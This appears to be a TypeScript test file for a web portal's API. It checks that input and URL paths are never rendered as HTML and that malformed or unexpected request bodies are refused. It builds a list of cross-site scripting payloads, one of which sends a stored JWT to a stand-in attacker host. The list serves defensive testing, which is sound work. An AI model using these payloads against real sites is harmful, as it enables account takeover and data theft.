import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { cleanText } from '#contract/clean-text.ts';
import { records } from '#server/db/tables/record-tables.ts';
import { callback } from '../support/file-calls.ts';
import { openPortal, type Portal, type Session, ticketOf } from '../support/portal.ts';

let portal: Portal;
let me: Session;
beforeAll(async () => {
  portal = await openPortal({ PUBLIC_BASE_URL: 'https://portal.example.com' });
  me = await portal.as('1001/sp.admin');
});
afterAll(() => portal.close());

const scripts = [
  'alert(1)',
  'javascript:alert(1)',
  '//evil.example/x.js',
  'fetch("//evil.example?"+localStorage.jwt)',
  '\u2028alert(1)\u2029',
];
const wrappers: ((script: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<ScRiPt src="${js}"></sCrIpT>`,
  (js) => `</script><script>${js}</script>`,
  (js) => `</textarea><img src=x onerror="${js}">`,
  (js) => `<svg/onload=${js}>`,
  (js) => `<svg><script href="data:,${js}"/></svg>`,
  (js) => `<iframe srcdoc="<script>${js}</script>">`,
  (js) => `<a href="javascript:${js}">x</a>`,
  (js) => `<a href="java\tscript:${js}">x</a>`,
  (js) => `<form action="javascript:${js}"><button>x</form>`,
  (js) => `<math><mtext></mtext><mglyph><style><img src=x onerror=${js}>`,
  (js) => `<details open ontoggle=${js}>`,
  (js) => `<body onload=${js}>`,
  (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  (js) => `<base href="//evil.example/"><x y="${js}">`,
  (js) => `<object data="data:text/html,<script>${js}</script>">`,
  (js) => `<style>@import '${js}';</style>`,
  (js) => `"><input autofocus onfocus=${js}>`,
  (js) => `' onmouseover='${js}`,
  (js) => `" style="background:url(${js})`,
  (js) => `\${${js}}{{${js}}}<%= ${js} %>`,
  (js) => `]]><!--<img src="--><img src=x onerror=${js}//">`,
  (js) => `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
  (js) => `%3Cscript%3E${js}%3C/script%3E`,
  (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<template><script>${js}</script></template>`,
  (js) => `{"__proto__":{"x":"${js}"}}`,
  (js) => `<xss contenteditable onbeforeinput=${js}>`,
  (js) => `data:text/html;base64,${Buffer.from(js).toString('base64')}`,
];
const payloads = wrappers.flatMap((wrap) => scripts.map(wrap));

test('§interface script in any text is stored and returned as JSON that no browser runs', async () => {
  const { id } = (await me.post('/foundation/1001/data', callback)).json();
  const path = `/foundation/1001/data/${id}`;
  for (const note of payloads) {
    const answer = await me.post(path, { _action: 'append', note });
    expect([note, answer.statusCode, answer.headers['content-type'], answer.headers['x-content-type-options']]).toEqual(
      [note, 200, 'application/json; charset=utf-8', 'nosniff'],
    );
  }
  const { history } = (await me.get(path)).json().data;
  const notes = history
    .filter(({ kind }: { kind: string }) => kind === 'note')
    .map(({ text }: { text: string }) => text);
  console.log(`${payloads.length} script payloads`);
  expect(payloads.length).toBeGreaterThanOrEqual(150);
  expect(notes).toEqual(payloads.map(cleanText));
});

test('§interface script in paths and queries is never part of a page', async () => {
  for (const payload of payloads) {
    const text = encodeURIComponent(payload);
    for (const url of [
      `/api/${text}`,
      `/api/foundation/${text}/data`,
      `/api/public/filedownload/${text}?token=${text}`,
      `/${text}`,
    ]) {
      const answer = await portal.app.inject({ method: 'GET', url, headers: { accept: 'text/html' } });
      const isPage = String(answer.headers['content-type']).startsWith('text/html');
      if (isPage) expect([url, answer.body.includes(payload)]).toEqual([url, false]);
      expect(answer.headers['x-content-type-options']).toBe('nosniff');
    }
  }
});

const extras = [
  'id',
  'trid',
  'version',
  'archived',
  'createdBy',
  'created',
  'status',
  'roles',
  'userId',
  'foreignid',
  '__proto__x',
  'constructor',
  'admin',
  'data',
];
const contentTypes = [
  'text/plain',
  'text/html',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/octet-stream',
  'application/json-patch+json',
  'application/yaml',
  'text/json',
  'application/jsonp',
  'x',
  'image/png',
];

test('§interface unknown fields and bodies other than JSON are refused on every write', async () => {
  me = await portal.as('1001/sp.admin');
  const { id } = (await me.post('/foundation/1001/data', callback)).json();
  const password = 'Viel-besser-27';
  const writes: [path: string, body: object][] = [
    ['/foundation/1001/data', callback],
    [`/foundation/1001/data/${id}`, { _action: 'append', note: 'x' }],
    [`/foundation/1001/data/${id}`, { _action: 'reopen', reason: 'x' }],
    ['/public/onetimeaction', { _action: 'downloadFile', path: 'templates/commission-complaint/ALSTERKOM.xlsx' }],
    ['/password/change', { current: 'x', password }],
    ['/password/reset', { token: 'x', password }],
    ['/password/reset-request', { userId: '1001/sp.admin' }],
    ['/terms/acceptance', { version: '2026-11-01' }],
    ['/jwt_token', { _ticket: ticketOf('1001/sp.admin'), timeout: 1000 }],
    ['/jwt_token', { timeout: 1000 }],
  ];
  const state = async () => [
    await portal.services.db.$count(records, eq(records.trid, '1001')),
    (await me.get(`/foundation/1001/data/${id}`)).json(),
    (await portal.mails()).length,
  ];
  const before = await state();
  const passed: string[] = [];
  let calls = 0;
  const send = async (path: string, payload: string, type: string, status: number[]) => {
    calls += 1;
    const { statusCode } = await portal.call('POST', path, {
      token: me.token,
      body: payload,
      headers: { 'content-type': type },
    });
    if (!status.includes(statusCode)) passed.push(`${statusCode} ${path} ${type} ${payload.slice(-40)}`);
  };
  for (const [path, body] of writes) {
    for (const extra of extras.filter((name) => !(name in body)))
      await send(path, JSON.stringify({ ...body, [extra]: 'x' }), 'application/json', [400]);
    for (const type of contentTypes) await send(path, JSON.stringify(body), type, [400, 415]);
    for (const odd of ['', '{', 'null', '[]', '"x"', '7', '{}']) await send(path, odd, 'application/json', [400]);
  }
  console.log(`${writes.length} writes, ${calls} odd bodies, ${passed.length} passed`);
  expect(passed).toEqual([]);
  expect(await state()).toEqual(before);
});

const ticketWith = (description: string) =>
  JSON.stringify({ ...callback, description: 'QQQ' }).replace('QQQ', description);
test.each([
  ['a NUL in a ticket', 'POST', '/foundation/1001/data', ticketWith('Bitte um Rückruf \\u0000'), 'description'],
  ['half an emoji in a ticket', 'POST', '/foundation/1001/data', ticketWith('Bitte um Rückruf \\ud83d'), 'description'],
  [
    'half an emoji in a form input',
    'PUT',
    '/foundation/1001/form-inputs/a',
    '{"version":0,"data":{"a":["x\\ude00"]}}',
    'data.a.0',
  ],
  ['half an emoji in a name', 'PUT', '/foundation/1001/form-inputs/a', '{"version":0,"data":{"x\\ude00":1}}', 'data'],
  [
    'a version beyond all numbers',
    'PUT',
    '/foundation/1001/form-inputs/a',
    '{"version":3000000000,"data":{}}',
    'version',
  ],
  ['part of a millisecond', 'POST', '/jwt_token', '{"timeout":0.5}', '_'],
] as const)(
  '§interface what no column of the database takes is refused, and says where it stands: %s',
  async (_case, method, path, body, field) => {
    const headers = { 'content-type': 'application/json' };
    const answer = await portal.call(method, path, { token: me.token, body, headers });
    expect([answer.statusCode, Object.keys(answer.json().fields)]).toEqual([400, [field]]);
  },
);
